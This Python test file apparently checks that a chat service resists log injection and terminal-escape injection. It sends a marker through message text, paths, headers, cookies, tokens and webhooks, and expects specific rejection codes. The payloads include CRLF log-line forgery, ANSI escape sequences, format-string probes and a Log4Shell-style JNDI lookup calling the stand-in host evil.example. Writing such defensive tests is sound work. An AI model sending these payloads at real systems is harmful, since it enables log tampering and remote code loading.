"""Words that would become lines of a log (CWE-117) or commands of a terminal (CWE-150); looked for at the end."""

from __future__ import annotations

from collections.abc import Callable

from tests.attacks.attack import ANSWERED, TURN, Attack, http
from tests.attacks.site import Site

MARK = "turpentine48213"
_LINES = {
    "a line feed": "hello\n{mark} CRITICAL all is lost",
    "CR and LF": "hello\r\n{mark} INFO accepted login for root",
    "a line that is JSON": 'hello\n{{"time": "2026-01-01", "level": "INFO", "message": "{mark}"}}',
    "the end of a JSON string": 'hello", "message": "{mark}',
    "colours of a terminal": "\x1b[2J\x1b[31m{mark}\x1b[0m",
    "a title of a terminal": "\x1b]0;{mark}\x07",
    "a line separator": "hello\u2028{mark}",
    "a next line": "hello\x85{mark}",
    "backspaces": "hello\x08\x08\x08\x08\x08{mark}",
    "a look-up (CVE-2021-44228)": "${{jndi:ldap://evil.example/{mark}}}",
    "arguments of a format": "%s %(message)s {{0.__class__}} {mark}",
}
_BAD = (400, "bad_request", ("web", "bad_request"))
_ABSENT = (404, "not_found", ("web", "not_found"))


def _text(text: str) -> Callable[[Site], bytes]:
    said = text.format(mark=MARK)
    return lambda site: site.web(text=said)


ATTACKS = [
    *(Attack(f"in a text: {name}", _text(text), 200, changes=TURN, besides=ANSWERED) for name, text in _LINES.items()),
    Attack("in a path", lambda s: http("GET", f"/chat/{MARK}%0d%0aINFO"), *_ABSENT),
    Attack("in a path, as colours", lambda s: http("GET", f"/chat/%1b[31m{MARK}"), *_ABSENT),
    Attack("in a raw path", lambda s: f"GET /chat/\x1b[31m{MARK} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode(), *_BAD),
    Attack("in a query", lambda s: s.web(path=f"/chat/messages?a={MARK}%0aINFO"), *_BAD),
    Attack("in a header", lambda s: s.web(None, ("User-Agent", f"\x1b[31m{MARK}")), *_BAD),
    Attack(
        "in a header that is allowed",
        lambda s: s.web(None, ("User-Agent", f"{MARK} %0a ${{jndi:x}}"), ("Cookie", "")),
        401,
        "no_session",
        ("web", "no_session"),
    ),
    Attack(
        "in a referrer of another site",
        lambda s: s.web(None, ("Referer", f"https://evil.example/{MARK}"), ("Origin", "null")),
        403,
        "wrong_origin",
        ("web", "wrong_origin"),
    ),
    Attack("in a method", lambda s: http(MARK.upper(), f"/{MARK}"), *_ABSENT),
    Attack(
        "in a cookie",
        lambda s: s.web(None, ("Cookie", f"__Host-discreet_session={MARK}")),
        401,
        "no_session",
        ("web", "no_session"),
    ),
    Attack(
        "in a token",
        lambda s: s.web(None, ("Authorization", f"Bearer {MARK}")),
        401,
        "no_session",
        ("web", "no_session"),
    ),
    Attack("in a body that is none", lambda s: s.web(f'{{"{MARK}'.encode()), *_BAD),
    Attack("in an id", lambda s: s.web(id=f"{MARK}\nINFO hello"), *_BAD),
    Attack(
        "in a forwarded address",
        lambda s: s.web(None, ("X-Forwarded-For", f"{MARK}, 1.2.3.4"), ("Cookie", "")),
        401,
        "no_session",
        ("web", "no_session"),
    ),
    Attack(
        "in a host",
        lambda s: http("GET", "/chat/history", host=f"{MARK}.example"),
        403,
        "wrong_origin",
        ("web", "wrong_origin"),
    ),
    Attack(
        "in a webhook's body",
        lambda s: http(
            "POST", "/webhooks/telegram/webhook", ("Content-Type", "application/json"), body=f'"{MARK}\n'.encode()
        ),
        401,
        "not_authentic",
        ("telegram", "not_authentic"),
    ),
    Attack(
        "in a webhook's signature",
        lambda s: http(
            "POST",
            "/webhooks/slack/webhook",
            ("Content-Type", "application/json"),
            ("X-Slack-Signature", MARK),
            ("X-Slack-Request-Timestamp", "1"),
            body=b"{}",
        ),
        401,
        "not_authentic",
        ("slack", "not_authentic"),
    ),
    Attack(
        "in an action call",
        lambda s: http("POST", f"/{MARK}", ("X-Discreet-Turn", MARK), body=MARK.encode(), host="actions"),
        401,
        counted=("actions", "bad_signature"),
        door="actions",
    ),
]
